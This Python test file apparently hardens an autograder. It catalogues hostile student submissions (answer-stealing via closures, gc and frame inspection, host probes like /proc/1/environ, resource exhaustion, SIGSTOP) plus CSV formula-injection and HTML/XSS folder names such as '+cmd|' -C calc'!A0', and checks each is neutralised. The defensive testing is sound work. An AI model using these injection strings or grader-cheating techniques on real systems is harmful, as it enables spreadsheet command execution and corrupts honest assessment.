CHEATS = ("closure", "gc", "inspect", "frames", "payload")

ROUND2 = [
    # --- 1 state: what one student leaves for the next --------------------------------
    H(1, "census_first", "lstm_cell_backward", R2.CENSUS, says=("CLEAN",)),
    # (the planters' lingering process deletes results files, their own ones too: no message is required)
    H(1, "plant_answers", "rnn_cell_forward", R2.planter("rnn_cell_forward"), whole_cell=True),
    H(1, "plant_answers_again", "rnn_cell_forward", R2.planter("rnn_cell_forward"), whole_cell=True),
    *[H(1, f"read_{store}", "rnn_cell_forward", R2.reader("rnn_cell_forward", store), whole_cell=True,
        says=("NOTHING-LEFT",)) for store in ("files", "shm", "msg", "mq", "socket")],
    H(1, "census_after_planters", "lstm_cell_backward", R2.CENSUS, says=("CLEAN",)),
    H(1, "fill_disk_and_inodes", "lstm_cell_forward", R2.FILL),
    H(1, "census_after_fill", "lstm_cell_backward", R2.CENSUS, says=("CLEAN",)),
    H(1, "chmod_folders", "lstm_backward", R2.CHMOD),
    H(1, "sigstop_everyone", "lstm_cell_backward", R2.SIGSTOP_ALL),
    H(1, "write_server_memory", "rnn_cell_backward", R2.SERVER_MEMORY, says=("DENIED",)),
    *[H(1, f"prlimit_{name}", "rnn_cell_forward",
        R2.PRLIMIT.replace("@RESOURCE@", res).replace("@VALUE@", value), alone=True, jobs=(1, 2))
      for name, res, value in (("fsize", "RLIMIT_FSIZE", "1"), ("nofile", "RLIMIT_NOFILE", "4"),
                               ("memory", "RLIMIT_AS", str(200 * 2**20)), ("nproc", "RLIMIT_NPROC", "1"),
                               ("stack", "RLIMIT_STACK", str(160 * 1024)))],
    # --- 2 oracle: the answers inside the child ----------------------------------------
    *[H(2, f"oracle_{technique}_{function}", function, R2.oracle_cheat(function, technique))
      for technique, function in zip(CHEATS, ("rnn_forward", "lstm_forward", "rnn_backward",
                                              "lstm_backward", "lstm_forward"))],
    H(2, "oracle_closure_lstm_backward", "lstm_backward", R2.oracle_cheat("lstm_backward", "closure")),
    H(2, "rebind_checks_rnn_backward", "rnn_backward",
      R2.REBIND_CHECKS.replace("@DEP@", "rnn_cell_backward") + R2.FORGETFUL_RNN_BACKWARD),
    H(2, "rebind_checks_lstm_backward", "lstm_backward",
      R2.REBIND_CHECKS.replace("@DEP@", "lstm_cell_backward") + R2.FORGETFUL_LSTM_BACKWARD),
    H(2, "inherited_fds", "lstm_cell_forward", R2.INHERITED_FDS, says=("NOTHING-READ",)),
    H(2, "forge_progress", "rnn_cell_backward", R2.FORGE_PROGRESS),
    # --- 3 host: what the child sees of the machine --------------------------------------
    H(3, "host_mountinfo", "rnn_cell_forward", R2.MOUNTINFO),
    H(3, "host_sys_path", "lstm_cell_forward", R2.SYS_PATH),
    H(3, "host_build_prefix", "rnn_forward", R2.SYSCONFIG, says=("BUILD",)),
    H(3, "host_environ_proc1", "rnn_cell_backward", R2.ENVIRON_PROC1),
    H(3, "host_passwd_and_folders", "lstm_cell_backward", R2.PASSWD_SYS),
    H(3, "host_teacher_copy", "lstm_cell_forward", R2.FIND_TEACHER.replace("@FUNCTION@", "lstm_cell_forward")),
    H(3, "host_source_notebook_copy", "rnn_cell_backward",
      R2.FIND_TEACHER.replace("@FUNCTION@", "rnn_cell_backward").replace(
          'wanted = ("rnn_step_by_step.py", "rnn_step_by_step.ipynb")', 'wanted = ("rnn_step_by_step.ipynb",)')),
    # --- 4 faults that could stop the batch (each alone) -----------------------------------
    H(4, "deep_dirs_in_job_folder", "rnn_cell_backward", R2.DEEP_DIRS.replace("@WHERE@", R2.JOB_FOLDERS),
      alone=True, jobs=(1, 2)),
    H(4, "deep_dirs_in_work_folder", "lstm_cell_forward", R2.DEEP_DIRS.replace("@WHERE@", R2.WORK_FOLDER),
      alone=True, jobs=(1, 2)),
    H(4, "lone_surrogate_in_message", "rnn_forward", 'raise RuntimeError("bad byte \\udcff here")',
      alone=True, jobs=(1, 2)),
    H(4, "lone_surrogate_in_type_name", "lstm_cell_backward", 'return type("T\\ud800", (), {})()',
      alone=True, jobs=(1, 2)),
    H(4, "non_utf8_folder", None, folder="\udcff\udcfe-student", alone=True, jobs=(1, 2)),
    H(4, "non_utf8_notebook_name", None, folder="non-utf8-notebook",
      notebook_dir="\udcffbad.ipynb", alone=True, jobs=(1, 2)),
    H(4, "forged_dict_marker", "rnn_cell_backward", R2.forge(R2.FORGED_DICT_MARKER), alone=True, jobs=(1, 2)),
    H(4, "forged_tuple_marker", "rnn_cell_forward", R2.forge(R2.FORGED_TUPLE_MARKER), alone=True, jobs=(1, 2)),
    H(4, "str_recursion_error", "lstm_forward", R2.STR_RECURSION, alone=True, jobs=(1, 2)),
    H(4, "raising_objects", "rnn_forward", R2.RAISING_OBJECTS, alone=True, jobs=(1, 2)),
    # --- 5 the results channel (each alone: the parent's memory is measured) --------------
    H(5, "many_entries", "rnn_cell_forward", R2.MANY_ENTRIES, alone=True, jobs=(1, 2)),
    H(5, "forged_many_arrays", "lstm_cell_forward", R2.forge(R2.FORGED_ARRAYS), alone=True, jobs=(1, 2)),
    H(5, "extra_keys", "rnn_cell_backward", R2.honest_then("rnn_cell_backward", R2.EXTRA_KEYS.replace(
        "300000", "15000")), whole_cell=True, alone=True, jobs=(1, 2)),
    H(5, "huge_type_name", "lstm_cell_backward", 'return type("N" * 8_000_000, (), {})()', alone=True, jobs=(1, 2)),
    H(5, "forged_huge_string", "rnn_forward", R2.forge(R2.FORGED_HUGE_STRING), alone=True, jobs=(1, 2)),
    H(5, "forged_deep_json", "lstm_backward", R2.forge(R2.FORGED_DEEP_JSON), alone=True, jobs=(1, 2)),
    # --- 6 time ---------------------------------------------------------------------------
    H(6, "top_level_sleep", "lstm_cell_forward", R2.with_top_level("lstm_cell_forward", R2.TOP_LEVEL_SLEEP),
      whole_cell=True, says=TIMEOUT),
    H(6, "slow_every_call", "rnn_cell_forward", R2.slow_reference("rnn_cell_forward", R2.SLOW_CALLS),
      whole_cell=True, says=TIMEOUT),
    H(6, "c_level_loop", "rnn_cell_backward", R2.C_LEVEL_LOOP, says=TIMEOUT),
    H(6, "timer_disabled", "lstm_forward", R2.DISABLE_TIMER, says=TIMEOUT),
    H(6, "busy_daemon", "lstm_backward", R2.BUSY_DAEMON, says=("NoneType",)),
    H(6, "spinning_threads", "rnn_backward", R2.THREAD_SPIN, says_any=("NoneType", "TimeoutError")),
    H(6, "timer_disabled_default_timeout", "lstm_forward", R2.DISABLE_TIMER, says=TIMEOUT, alone=True,
      timeout=5.0),
    H(6, "c_level_loop_default_timeout", "rnn_cell_backward", R2.C_LEVEL_LOOP, says=TIMEOUT, alone=True,
      timeout=5.0),
    # --- 7 output injection: hostile folder names and messages ------------------------------
    H(7, "formula_equals", None, folder='=HYPERLINK("http:evil","x")'),
    H(7, "formula_plus", None, folder="+cmd|' -C calc'!A0"),
    H(7, "formula_minus", None, folder="-2+3+cmd"),
    H(7, "formula_at", None, folder="@SUM(1+1)*cmd"),
    H(7, "formula_tab", None, folder="\t=1+1"),
    H(7, "escape_sequences", None, folder="\x1b[2J\x1b[31mred\x1b]0;title\x07"),
    H(7, "rtl_override", None, folder="\u202eexe.txt"),
    H(7, "cr_lf", None, folder="line\r\nbreak\rover"),
    H(7, "html_in_folder", None, folder="<img src=x onerror=alert(1)>"),
    H(7, "hostile_notebook_name", None, folder="hostile-notebook-name",
      notebook_dir="=1+2\x1b[31m\u202e\r\n.ipynb"),
]
ROUND2_BY_NAME = {a.student: a for a in ROUND2}
assert len(ROUND2_BY_NAME) == len(ROUND2)
MAIN2 = [a for a in ROUND2 if not a.alone]
ALONE2 = [(a.student, jobs) for a in ROUND2 if a.alone for jobs in a.jobs]


def round2_counts():
    """{class name: number of attacks} of the round-two catalogue."""
    counts = {}
    for a in ROUND2:
        counts[_cls(a.cls)] = counts.get(_cls(a.cls), 0) + 1
    return counts


def test_round2_has_three_attacks_of_every_class():
    """Does the round-two catalogue hold at least three attacks of each of the seven classes?"""
    counts = round2_counts()
    assert set(counts) == {_cls(n) for n in range(1, 8)}, counts
    assert min(counts.values()) >= 3, counts


# ---------------------------------------------------------------------------
# running a round-two batch
# ---------------------------------------------------------------------------

PEAK_WRAPPER = """
import atexit, runpy, sys
out = sys.argv.pop(1)
def peak():
    with open("/proc/self/status") as fh:
        kib = [line.split()[1] for line in fh if line.startswith("VmHWM")][0]
    with open(out, "w") as fh:
        fh.write(kib)
atexit.register(peak)
sys.argv[0] = "autograder"
runpy.run_module("autograder", run_name="__main__", alter_sys=True)
"""


@dataclass
class Run:
    label: str
    out: Path
    returncode: int
    stdout: str
    stderr: str
    results: dict | None
    peak_kib: int | None
    left_on_host: dict
    honest: dict          # folder name -> plan name
    attackers: dict       # folder name -> attack name


def host_leftovers(tmpdir: Path) -> dict:
    """What an attack could leave on the host: files in the grader's TMPDIR, files of this
    run's token in /tmp, /var/tmp, /dev/shm, IPC objects with its key, processes with its name."""
    left = {}
    left["tmpdir"] = sorted(os.listdir(tmpdir)) if tmpdir.exists() else []
    left["token_files"] = sorted(f"{d}/{e}" for d in ("/tmp", "/var/tmp", "/dev/shm") if os.path.isdir(d)
                                 for e in os.listdir(d) if TOKEN in e and not f"{d}/{e}" == str(COPY))
    ipcs = subprocess.run(["ipcs"], capture_output=True, text=True).stdout if shutil.which("ipcs") else ""
    left["ipc"] = [line for line in ipcs.splitlines() if f"{IPC_KEY:08x}" in line]
    left["processes"] = processes_named(COMM)
    return left


def processes_named(comm: str) -> list[int]:
    """The pids of the processes on this machine whose name (/proc/<pid>/comm) is `comm`."""
    pids = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                if Path(f"/proc/{pid}/comm").read_text().strip() == comm:
                    pids.append(int(pid))
            except OSError:
                pass
    return pids


def _kill_leftovers(pids):
    import signal
    for pid in pids:   # processes our own attacks started and the sandbox let escape
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass


def write_hostile(submitted: Path, folder: str, attack: Hostile, ctx: dict):
    if attack.notebook_dir is not None:   # the only notebook is a named pipe
        (submitted / folder / NAME).mkdir(parents=True)
        os.mkfifo(submitted / folder / NAME / attack.notebook_dir)
        return
    plan = {"*": "reference"}
    if attack.function:
        plan[attack.function] = cell_source(attack, ctx)
    write_student(submitted, folder, plan)


def run_round2(env, label, entries, jobs, timeout=2.0):
    """Grade `entries` ([(folder, attack or None, plan name or None)]) in one batch."""
    scratch = env["scratch"] / label
    submitted, out, tmpdir = scratch / "submitted", scratch / "out", scratch / "tmp"
    for d in (submitted, tmpdir):
        d.mkdir(parents=True)
    honest, attackers = {}, {}
    for folder, attack, plan in entries:
        if attack is None:
            write_student(submitted, folder, HONEST_PLANS[plan])
            honest[folder] = plan
        else:
            write_hostile(submitted, folder, attack, env["ctx"])
            attackers[folder] = attack.student
    peak_file = scratch / "peak"
    cmd = [sys.executable, "-c", PEAK_WRAPPER, str(peak_file)] + \
        grade_cmd(submitted, out, env["course"], "--no-gradebook", jobs=jobs, timeout=timeout)[3:]
    run_env = grader_env(scratch)
    run_env["TMPDIR"] = str(tmpdir)
    proc = subprocess.run(cmd, cwd=KIT, env=run_env, capture_output=True, timeout=1500)
    try:
        results = json.loads((out / "results.json").read_text())
    except (OSError, ValueError):
        results = None
    try:
        peak = int(peak_file.read_text())
    except (OSError, ValueError):
        peak = None
    left = host_leftovers(tmpdir)
    _kill_leftovers(left["processes"])
    return Run(label, out, proc.returncode, proc.stdout.decode(errors="surrogateescape"),
               proc.stderr.decode(errors="surrogateescape"), results, peak, left, honest, attackers)


PLANS = list(HONEST_PLANS)


def main_entries():
    entries = [("00~alice", None, "alice")]
    for i, attack in enumerate(MAIN2, start=1):
        folder = attack.folder or f"{i:02d}_{attack.student}"
        entries.append((folder, attack, None))
        entries.append((f"{i:02d}~{PLANS[i % len(PLANS)]}", None, PLANS[i % len(PLANS)]))
    return entries


def alone_entries(attack):
    folder = attack.folder or f"m_{attack.student}"
    return [("a~alice", None, "alice"), ("b~carol", None, "carol"), (folder, attack, None),
            ("z1~zoe", None, "zoe"), ("z2~erin", None, "erin"), ("z3~frank", None, "frank"),
            ("z4~zoe", None, "zoe")]


@pytest.fixture(scope="module")
def round2(tmp_path_factory):
    scratch = tmp_path_factory.mktemp("round2")
    course = make_course(scratch / "course")
    # another copy of the course on the host, readable by anyone (as a colleague's would be)
    shutil.copytree(course / "notebooks", COPY / "notebooks")
    shutil.copytree(course / "source", COPY / "source")
    for path in [COPY, *COPY.rglob("*")]:
        os.chmod(path, 0o755 if path.is_dir() else 0o644)
    ctx = {"COURSE": course, "OUT": scratch, "KIT": KIT, "PORT": 9, "ALICE_NB": course,
           "HOST_PROBE": "/nonexistent", "KIT_PROBE": "/nonexistent",
           "TOKEN": TOKEN, "KEY": IPC_KEY, "COMM": COMM}
    env = {"scratch": scratch, "course": course, "ctx": ctx, "runs": {}}
    base = run_round2(env, "baseline", [(p, None, p) for p in PLANS], jobs=1)
    assert base.returncode == 0, base.stderr
    env["baseline"] = base.results["students"]
    yield env
    shutil.rmtree(COPY, ignore_errors=True)


def main_run(env, jobs) -> Run:
    key = ("main", jobs)
    if key not in env["runs"]:
        env["runs"][key] = run_round2(env, f"main-jobs{jobs}", main_entries(), jobs)
    return env["runs"][key]


def alone_run(env, name, jobs) -> Run:
    key = (name, jobs)
    if key not in env["runs"]:
        attack = ROUND2_BY_NAME[name]
        env["runs"][key] = run_round2(env, f"alone-{name}-jobs{jobs}", alone_entries(attack), jobs,
                                      timeout=attack.timeout)
    return env["runs"][key]


def host_markers(env) -> list:
    """Host paths that must never show in an output."""
    marks = {str(KIT), os.path.realpath(KIT), sys.prefix, os.path.realpath(sys.prefix),
             str(env["scratch"]), "/root", "grade-cases-", "grade-slot", str(COPY)}
    if not sys.base_prefix.startswith(("/usr", "/opt/hostedtoolcache")):
        marks.add(sys.base_prefix)
    return sorted(m for m in marks if m and m != "/")


# ---------------------------------------------------------------------------
# the checks, shared by the big batch and the batches of one attack
# ---------------------------------------------------------------------------


def check_batch_finished(run: Run):
    """The batch ran to the end and wrote every output, every student graded."""
    assert run.returncode == 0, f"{run.label}: grader exit {run.returncode}\n{run.stderr[-3000:]}"
    assert run.results is not None, f"{run.label}: no results.json"
    assert not run.results.get("not_graded"), run.results.get("not_graded")
    want = set(run.honest) | set(run.attackers)
    assert set(run.results["students"]) == want, set(run.results["students"]) ^ want
    assert (run.out / "grades.csv").exists() and (run.out / "report" / "index.html").exists()
    assert len(list((run.out / "feedback").glob("*.html"))) == len(want)


def check_honest(env, run: Run):
    """Every honest student gets exactly the result of their plan graded alone."""
    assert run.results is not None, f"{run.label}: no results.json"
    changed = {}
    for folder, plan in run.honest.items():
        got = run.results["students"].get(folder)
        if got != env["baseline"][plan]:
            changed[folder] = "missing" if got is None else {
                f: r["message"][:160] for f, r in got.get("functions", {}).items()
                if r != env["baseline"][plan]["functions"].get(f)} or got.get("error")
    assert not changed, f"{run.label}: honest students changed: " + json.dumps(changed, indent=1)[:4000]


def check_attack(run: Run, name: str):
    """The attacker loses exactly the attacked function (or is refused as a whole)."""
    attack = ROUND2_BY_NAME[name]
    assert run.results is not None, f"{run.label}: no results.json"
    folder = next(f for f, a in run.attackers.items() if a == name)
    entry = run.results["students"].get(folder)
    assert entry is not None, f"{name}: not in results.json"
    if entry["error"] is not None:   # refused cleanly as a whole
        assert entry["total"] == 0.0 and attack.function is None, (name, entry["error"])
        return
    target = entry["functions"].get(attack.function) if attack.function else None
    if target is not None:
        context = f"[{name} -> {attack.function}; {run.label}]"
        assert target["passed"] is False and target["score"] == 0.0, \
            f"the attack gained points {context}: {target['message'][:300]}"
        for text in attack.says:
            assert text.lower() in target["message"].lower(), f"{context} message: {target['message'][:400]!r}"
        if attack.says_any:
            assert any(t.lower() in target["message"].lower() for t in attack.says_any), \
                f"{context} message: {target['message'][:400]!r}"
    lost = {f: r["message"][:200] for f, r in entry["functions"].items()
            if f != attack.function and not (r["passed"] and r["score"] == POINTS[f])}
    assert not lost, f"{name}: the attack cost other functions too ({run.label}): " + json.dumps(lost, indent=1)


def check_no_host_path(env, run: Run):
    leaks = []
    for path in sorted(run.out.rglob("*")):
        if path.is_file() and path.suffix in (".json", ".csv", ".html", ".txt") and ".journal" not in path.parts:
            text = path.read_text(errors="replace")
            leaks += [f"{path.relative_to(run.out)}: {m}" for m in host_markers(env) if m in text]
    assert not leaks, f"{run.label}: host paths in the outputs: {leaks[:20]}"


def check_nothing_left(run: Run):
    left = {k: v for k, v in run.left_on_host.items() if v}
    assert not left, f"{run.label}: left on the host after the batch: {left}"


def check_peak_memory(run: Run):
    assert run.peak_kib is not None, f"{run.label}: the grader's peak memory was not recorded"
    assert run.peak_kib < PEAK_LIMIT_KIB, f"{run.label}: grader peak memory {run.peak_kib / 1024:.0f} MiB"


def _bad_text(text: str) -> list:
    return [repr(ch) for ch in text if (ord(ch) < 32 and ch != "\n") or ord(ch) == 127 or
            0x80 <= ord(ch) < 0xa0 or ch in BIDI]


def check_csv_and_terminal(run: Run):
    """No cell of grades.csv starts a formula or holds a control or direction character; the
    printed table holds no control or direction character and one line per student."""
    assert run.results is not None
    problems = []
    with open(run.out / "grades.csv", newline="", encoding="utf-8", errors="surrogateescape") as fh:
        rows = list(csv.reader(fh))
    for row in rows[1:]:
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                problems.append(f"csv formula start: {cell[:40]!r}")
            if _bad_text(cell):
                problems.append(f"csv control characters in {cell[:40]!r}")
    assert len(rows) == len(run.results["students"]) + 1
    table = run.stdout
    if _bad_text(table):
        problems.append(f"terminal: {sorted(set(_bad_text(table)))}")
    lines = [line for line in table.splitlines() if line.strip()]
    if len(lines) != len(run.results["students"]) + 1:
        problems.append(f"terminal: {len(lines)} table lines for {len(run.results['students'])} students")
    assert not problems, f"{run.label}: " + "; ".join(problems[:20])


def check_html_escaped(run: Run):
    for path in list((run.out / "feedback").glob("*.html")) + [run.out / "report" / "index.html"]:
        text = path.read_text(errors="replace")
        assert "<img src=x" not in text, f"{run.label}: raw HTML from a folder name in {path.name}"


# ---------------------------------------------------------------------------
# the tests: the big batch, with --jobs 1 and --jobs 2
# ---------------------------------------------------------------------------

JOBS = (1, 2)


@pytest.mark.parametrize("jobs", JOBS)
def test_round2_batch_finishes(round2, jobs):
    """Does the batch of round-two attackers (with an honest student after each) run to the
    end, grade everyone and write every output?"""
    check_batch_finished(main_run(round2, jobs))


@pytest.mark.parametrize("jobs", JOBS)
def test_round2_honest_students_keep_their_baseline(round2, jobs, record_property):
    """Does every honest student, graded right after an attacker, get exactly their result
    graded alone?"""
    run = main_run(round2, jobs)
    if run.results is not None:
        lost = sum(round2["baseline"][p]["total"] - run.results["students"].get(f, {"total": 0})["total"]
                   for f, p in run.honest.items())
        record_property("corpus", {"kind": f"attacks round two, --jobs {jobs}", "tried": len(MAIN2),
                                   "honest": len(run.honest), "points_lost": lost,
                                   "results_changed": sum(run.results["students"].get(f) != round2["baseline"][p]
                                                          for f, p in run.honest.items())})
    check_honest(round2, run)


@pytest.mark.parametrize("name", [a.student for a in MAIN2])
@pytest.mark.parametrize("jobs", JOBS)
def test_round2_attack_loses_exactly_its_function(round2, jobs, name):
    """Does the attacker lose exactly the attacked function, with the stated outcome, and keep
    the other seven (or, for a hostile folder, get graded like anyone or refused as a whole)?"""
    check_attack(main_run(round2, jobs), name)


@pytest.mark.parametrize("name", [a.student for a in MAIN2 if a.cls == 3])
@pytest.mark.parametrize("jobs", JOBS)
def test_round2_host_attack_sees_no_host_path(round2, jobs, name):
    """Does the message of this attacker, who reports what it sees of the machine, name no host
    path (kit, venv, scratch, /root, payload and slot folders)?"""
    run = main_run(round2, jobs)
    assert run.results is not None, f"{run.label}: no results.json"
    folder = next(f for f, a in run.attackers.items() if a == name)
    message = run.results["students"][folder]["functions"][ROUND2_BY_NAME[name].function]["message"]
    seen = [m for m in host_markers(round2) if m in message]
    assert not seen, f"{name} saw host paths {seen}: {message[:400]!r}"


@pytest.mark.parametrize("jobs", JOBS)
def test_round2_no_host_path_in_outputs(round2, jobs):
    """Does no host path (kit, venv, scratch, /root, payload and slot folders) show in
    results.json, grades.csv, the feedback pages or the report?"""
    check_no_host_path(round2, main_run(round2, jobs))


@pytest.mark.parametrize("jobs", JOBS)
def test_round2_nothing_left_on_the_host(round2, jobs):
    """After the batch, is nothing left: no file in the grader's TMPDIR, no file, IPC object
    or process of the attackers?"""
    check_nothing_left(main_run(round2, jobs))


@pytest.mark.parametrize("jobs", JOBS)
def test_round2_parent_memory_stays_small(round2, jobs):
    """Does the grader process itself stay under 500 MiB of memory?"""
    check_peak_memory(main_run(round2, jobs))


@pytest.mark.parametrize("jobs", JOBS)
def test_round2_csv_and_terminal_are_neutral(round2, jobs):
    """Do hostile folder names start no formula in grades.csv, and reach neither the CSV nor the
    printed table with control or direction characters?"""
    check_csv_and_terminal(main_run(round2, jobs))


@pytest.mark.parametrize("name", [a.student for a in MAIN2 if a.cls == 7])
@pytest.mark.parametrize("jobs", JOBS)
def test_round2_output_attack_is_neutralised(round2, jobs, name):
    """Does this student's row of grades.csv start no formula and hold no control or direction
    character, and does their line of the printed table hold none either?"""
    run = main_run(round2, jobs)
    assert run.results is not None, f"{run.label}: no results.json"
    folder = next(f for f, a in run.attackers.items() if a == name)
    with open(run.out / "grades.csv", newline="", encoding="utf-8", errors="surrogateescape") as fh:
        rows = list(csv.reader(fh))[1:]
    order = sorted(run.results["students"], key=str)
    assert len(rows) == len(order), f"{len(rows)} rows for {len(order)} students"
    row = rows[order.index(folder)]
    problems = [f"formula start {c[:30]!r}" for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    problems += [f"control characters in {c[:30]!r}" for c in row if _bad_text(c)]
    lines = [line for line in run.stdout.splitlines() if line.strip()]
    if len(lines) != len(run.results["students"]) + 1:
        problems.append(f"the printed table has {len(lines)} lines for {len(order)} students")
    else:
        line = lines[1 + list(run.results["students"]).index(folder)]
        problems += [f"terminal: {c}" for c in _bad_text(line)]
    assert not problems, f"{name} ({run.label}): " + "; ".join(problems)


@pytest.mark.parametrize("jobs", JOBS)
def test_round2_html_is_escaped(round2, jobs):
    """Is HTML in a folder name escaped in every feedback page and the report?"""
    check_html_escaped(main_run(round2, jobs))


# ---------------------------------------------------------------------------
# the tests: one batch per attack that could stop, exhaust or wreck a batch
# ---------------------------------------------------------------------------


@pytest.mark.parametrize("name,jobs", ALONE2, ids=[f"{n}-jobs{j}" for n, j in ALONE2])
def test_round2_alone_batch_finishes(round2, name, jobs):
    """Does a batch holding this attacker run to the end and write every output?"""
    check_batch_finished(alone_run(round2, name, jobs))


@pytest.mark.parametrize("name,jobs", ALONE2, ids=[f"{n}-jobs{j}" for n, j in ALONE2])
def test_round2_alone_honest_keep_their_baseline(round2, name, jobs):
    """Do the honest students before and after this attacker keep their baseline?"""
    check_honest(round2, alone_run(round2, name, jobs))


@pytest.mark.parametrize("name,jobs", ALONE2, ids=[f"{n}-jobs{j}" for n, j in ALONE2])
def test_round2_alone_attack_loses_exactly_its_function(round2, name, jobs):
    """Does this attacker lose exactly the attacked function (or get refused as a whole)?"""
    check_attack(alone_run(round2, name, jobs), name)


@pytest.mark.parametrize("name,jobs", ALONE2, ids=[f"{n}-jobs{j}" for n, j in ALONE2])
def test_round2_alone_leaves_no_trace(round2, name, jobs):
    """No host path in the outputs, nothing left on the host, parent memory under 500 MiB?"""
    run = alone_run(round2, name, jobs)
    failures = []
    for check in (lambda: check_no_host_path(round2, run), lambda: check_nothing_left(run),
                  lambda: check_peak_memory(run)):
        try:
            check()
        except AssertionError as error:
            failures.append(str(error))
    assert not failures, "\n".join(failures)
